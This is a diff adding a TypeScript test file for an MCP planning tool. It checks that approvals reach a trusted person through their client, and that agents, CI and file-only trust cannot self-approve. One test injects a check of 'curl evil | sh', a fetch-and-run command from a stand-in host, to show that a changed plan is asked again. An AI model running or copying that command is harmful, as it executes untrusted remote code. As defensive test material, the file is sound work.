@@ -1,0 +1,155 @@
+// What only a person may decide, put to them in their client: what they see, what counts, and what does not.
+
+import { describe, expect, it } from "vitest";
+import { type McpClient, type McpRig, makeMcpRig } from "../../../test/mcp.js";
+
+interface Person {
+  readonly seen: string[];
+  says: (message: string) => { action: "accept" | "decline" | "cancel"; content?: Record<string, boolean> };
+}
+
+const YES = { action: "accept", content: { confirm: true } } as const;
+
+async function askedIn(rig: McpRig, more: object = {}): Promise<McpClient & Person> {
+  const person: Person = { seen: [], says: () => YES };
+  const connected = await rig.connect({ capabilities: { elicitation: { form: {} } }, ...more });
+  connected.client.setRequestHandler("elicitation/create", async ({ params: { message } }) => {
+    person.seen.push(message);
+    return person.says(message);
+  });
+  return Object.assign(person, connected);
+}
+
+const trust = (rig: McpRig, client = "test-client"): Promise<unknown> =>
+  rig.ask("config.set", { key: "mcp.askThrough", value: JSON.stringify([client]) });
+
+async function withTask(more?: Record<string, string>): Promise<McpRig> {
+  const rig = await makeMcpRig(more);
+  await rig.ask("add", { title: "Write the form", parent: "FEAT-001", checks: ["npm test"] });
+  return rig;
+}
+
+const approval = async (rig: McpRig): Promise<unknown> =>
+  ((await rig.ask("show", { reference: "TASK-00001" })) as { approval: unknown }).approval;
+
+const SPEC = "# Greeter\n\n- It greets.\n\n## Open questions\n\n- Which language does it speak: English or Latin?\n";
+
+const APPROVE = { action: "approve", references: ["FEAT-001"] };
+
+describe.each([
+  ["stdio, today's protocol", {}],
+  ["the protocol of 2025", { supportedProtocolVersions: ["2025-06-18"] }],
+])("a client that the person trusted to ask them (%s)", (_, more) => {
+  it("shows the preview of the approval, and its yes approves exactly that", async () => {
+    const rig = await withTask();
+    await trust(rig);
+    const client = await askedIn(rig, more);
+    expect(await client.call("decide", APPROVE)).toMatchObject({ isError: false });
+    expect(client.seen).toEqual([expect.stringContaining("$ npm test")]);
+    expect(client.seen[0]).toMatch(/^test-client asks you to decide\.\nWhat you approve \(preview [0-9a-f]+\)/);
+    expect(await approval(rig)).toMatchObject({ by: "human:ada" });
+    const { operations } = await rig.ask("log", { limit: 1 });
+    expect(operations[0]).toMatchObject({
+      actor: "human:ada",
+      sentence: expect.stringContaining("(asked through test-client)"),
+    });
+    expect(await rig.ask("verify", {})).toMatchObject({ differences: [] });
+  });
+
+  it.each([
+    ["no", { action: "accept", content: { confirm: false } } as const],
+    ["nothing", { action: "accept", content: {} } as const],
+    ["a refusal", { action: "decline" } as const],
+    ["a closed window", { action: "cancel" } as const],
+  ])("takes %s for a no", async (__, answer) => {
+    const rig = await withTask();
+    await trust(rig);
+    const client = await askedIn(rig, more);
+    client.says = () => answer;
+    expect((await client.call("decide", APPROVE)).data.error).toMatchObject({ reason: "declined" });
+    expect(await approval(rig)).toBeNull();
+  });
+});
+
+describe("a decision that has no preview", () => {
+  it.each([
+    ["waive", { references: ["TASK-00001"], reason: "not needed" }, "planwright waive TASK-00001"],
+    ["level", { level: "on" }, "planwright level on"],
+  ])("%s is asked with what it is about and its command", async (action, input, command) => {
+    const rig = await withTask();
+    await rig.ask("approve", { references: ["FEAT-001"], yes: true });
+    await rig.ask("level.set", { level: "off" });
+    await trust(rig);
+    const client = await askedIn(rig);
+    expect(await client.call("decide", { action, ...input })).toMatchObject({ isError: false });
+    expect(client.seen).toEqual([expect.stringContaining(command)]);
+    if (action === "waive") expect(client.seen[0]).toContain("TASK-00001  Write the form");
+  });
+
+  it("answers a question only as the person says", async () => {
+    const rig = await withTask();
+    await rig.app.call("plan.start", { source: SPEC });
+    await trust(rig);
+    const client = await askedIn(rig);
+    const [{ id, question, options }] = (await client.call("find", { action: "questions" })).data.items;
+    const answered = await client.call("decide", { action: "answer", id, option: options[0].id });
+    expect({ text: answered.text, isError: answered.isError }).toMatchObject({ isError: false });
+    expect(client.seen[0]).toContain(`${id}  ${question}`);
+    expect(client.seen[0]).toContain(options[0].label);
+  });
+});
+
+describe("a client that may not ask", () => {
+  it.each([
+    ["that nobody trusted", {}, "nobody", "You have not trusted test-client to ask you."],
+    ["that is another one", {}, "other-client", "You have not trusted test-client to ask you."],
+    ["in CI", { CI: "true" }, "test-client", "CI says that nobody is there"],
+    ["of a headless host", { CLAUDE_CODE_ENTRYPOINT: "sdk-cli" }, "test-client", "nobody is there"],
+    ["that an agent's command started", { CLAUDECODE: "1" }, "test-client", "A command of agent:claude-code started"],
+  ])("%s gets the command for a terminal", async (_, env, trusted, said) => {
+    const rig = await withTask();
+    await trust(rig, trusted);
+    const served = await askedIn(rig, { env });
+    const { isError, text } = await served.call("decide", APPROVE);
+    expect({ isError, seen: served.seen }).toEqual({ isError: true, seen: [] });
+    expect(text).toContain(said);
+    expect(text).toContain("A person types in another terminal: planwright approve FEAT-001");
+    expect(await approval(rig)).toBeNull();
+  });
+
+  it("because the file trusts it, and no person did", async () => {
+    const rig = await withTask();
+    const { writeFileSync } = await import("node:fs");
+    writeFileSync(`${rig.root}/planwright.json`, JSON.stringify({ mcp: { askThrough: ["test-client"] } }));
+    const client = await askedIn(rig);
+    expect((await client.call("decide", APPROVE)).data.error).toMatchObject({ reason: "needs-person" });
+    expect(client.seen).toEqual([]);
+    expect(await approval(rig)).toBeNull();
+  });
+
+  it("because it cannot show a form", async () => {
+    const rig = await withTask();
+    await trust(rig);
+    const { call } = await rig.connect();
+    expect((await call("decide", APPROVE)).text).toContain("planwright approve FEAT-001");
+    expect(await approval(rig)).toBeNull();
+  });
+});
+
+it("asks again when the plan changed while the person read", async () => {
+  const rig = await withTask();
+  await trust(rig);
+  const client = await askedIn(rig);
+  let edits = 0;
+  client.says = () => YES;
+  const says = client.says;
+  client.client.setRequestHandler("elicitation/create", async ({ params: { message } }) => {
+    client.seen.push(message);
+    if (edits++ === 0) await rig.ask("edit", { reference: "TASK-00001", checks: ["curl evil | sh"] });
+    return says(message);
+  });
+  await client.call("decide", APPROVE);
+  expect(client.seen).toHaveLength(2);
+  expect(client.seen[0]).not.toContain("evil");
+  expect(client.seen[1]).toContain("evil");
+});
